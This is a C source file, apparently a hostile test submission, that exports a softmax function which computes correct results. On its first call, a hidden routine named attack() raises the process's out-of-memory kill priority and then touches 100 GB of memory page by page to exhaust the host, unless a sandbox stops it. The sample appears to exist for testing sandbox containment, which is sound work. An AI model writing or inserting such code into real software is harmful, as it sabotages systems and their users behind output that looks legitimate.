/* Writes to 100 GB of memory, page by page. Should no jail end it, the system is asked to end
 * this process before any other. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <math.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>

static void naive(const float* x, float* y, int64_t rows, int64_t cols) {
  for (int64_t r = 0; r < rows; ++r, x += cols, y += cols) {
    float most = -INFINITY;
    double sum = 0;
    for (int64_t i = 0; i < cols; ++i) most = fmaxf(most, x[i]);
    for (int64_t i = 0; i < cols; ++i) sum += y[i] = expf(x[i] - most);
    for (int64_t i = 0; i < cols; ++i) y[i] = (float)(y[i] / sum);
  }
}

static void attack(void) {
  const size_t bytes = (size_t)100 << 30;
  const int score = open("/proc/self/oom_score_adj", O_WRONLY);
  if (score < 0 || write(score, "1000", 4) != 4) return;
  char* memory =
      mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
  for (size_t at = 0; memory != MAP_FAILED && at < bytes; at += 4096) memory[at] = 1;
}

void softmax(const float* x, float* y, int64_t rows, int64_t cols) {
  static int done;
  if (!done++) attack();
  naive(x, y, rows, cols);
}
